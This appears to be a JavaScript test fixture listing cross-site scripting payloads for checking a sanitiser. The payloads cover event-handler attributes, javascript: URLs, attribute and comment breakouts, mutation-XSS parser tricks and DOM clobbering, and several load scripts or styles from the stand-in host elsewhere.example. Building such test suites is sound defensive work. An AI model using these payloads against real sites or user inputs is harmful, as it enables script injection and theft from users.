// Texts that run a script, load something from elsewhere or lead away where a program takes them for markup. Each tries
// one known way, in our own words; public lists have thousands of spellings (see lists.js).

/** What a payload calls when it runs; `watch.js` listens for it. */
export const MARK = "ranHere";

const call = `${MARK}()`;
const elsewhere = "https://elsewhere.example";

export const PAYLOADS = [
  // Elements that run.
  `<script>${call}</script>`,
  `<ScRiPt\n>${call}</sCrIpT\t>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<script src=//elsewhere.example/b.js></script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${call}"/></svg>`,
  // Attributes that run.
  `<img src=nowhere onerror=${call}>`,
  `<img/src="nowhere"/onerror="${call}"/>`,
  `<svg onload=${call}>`,
  `<details open ontoggle=${call}>more</details>`,
  `<input autofocus onfocus=${call}><select autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video><audio src=nowhere onerror=${call}></audio>`,
  `<body onload=${call} onpageshow=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<p tabindex=1 onmouseover=${call} onclick=${call} style="position:fixed;inset:0">over</p>`,
  // Out of an attribute, an element, a comment or a script.
  `"><img src=nowhere onerror=${call}>`,
  `'><img src=nowhere onerror='${call}'>`,
  `" autofocus tabindex=1 onfocus="${call}" onmouseover="${call}" x="`,
  `' autofocus tabindex=1 onfocus='${call}' x='`,
  `</title></style></textarea></noscript></script><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script><![CDATA[`,
  `";${call};//`,
  `'-${call}-'`,
  `\\";${call}//`,
  `\`-\${${call}}-\``,
  `{{constructor.constructor('${call}')()}} {% raw %} {{ 7 * 7 }}`,
  // Addresses that run.
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<a href="javascript:${call}">lead</a>`,
  `<a href="java&#10;script:${call}">lead</a>`,
  `<form action="javascript:${call}"><button formaction="javascript:${call}">go</button></form>`,
  `<svg><a xlink:href="javascript:${call}"><text y="20">lead</text></a></svg>`,
  `<math><mi href="javascript:${call}">lead</mi></math>`,
  `[lead](javascript:${call}) <javascript:${call}> ![x](javascript:${call})`,
  `[lead](java&Tab;script:${call} "t" onclick="${call}")`,
  `![x" onerror="${call}](nowhere.png "y\\" onerror=\\"${call}")`,
  // Pages within pages, and pages in place of others.
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object><embed src="javascript:${call}">`,
  `<base href="${elsewhere}/"><link rel=stylesheet href="${elsewhere}/a.css"><style>@import "${elsewhere}/b.css"</style>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<img src="//elsewhere.example/a.png"><img src="\\\\elsewhere.example\\a.png"><img srcset="https:elsewhere.example/a.png 1x">`,
  `![a](${elsewhere}/a.png) ![b](//elsewhere.example/b.png) ![c](\\\\elsewhere.example/c.png)`,
  // What sanitisers and browsers read differently.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=nowhere onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=nowhere onerror=${call}>">`,
  `<noscript><p title="</noscript><img src=nowhere onerror=${call}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=nowhere onerror=${call}>`,
  `<template><script>${call}</script></template><svg><foreignObject><img src=nowhere onerror=${call}></foreignObject></svg>`,
  `&lt;img src=nowhere onerror=${call}&gt; %3Cimg src=nowhere onerror=${call}%3E \\u003cimg src=nowhere onerror=${call}\\u003e`,
  `<<b>img src=nowhere onerror=${call}//<</b>`,
  // Names that objects have of themselves.
  `__proto__ constructor toString <a id="location"></a><form name="body" id="documentElement"></form>`,
];
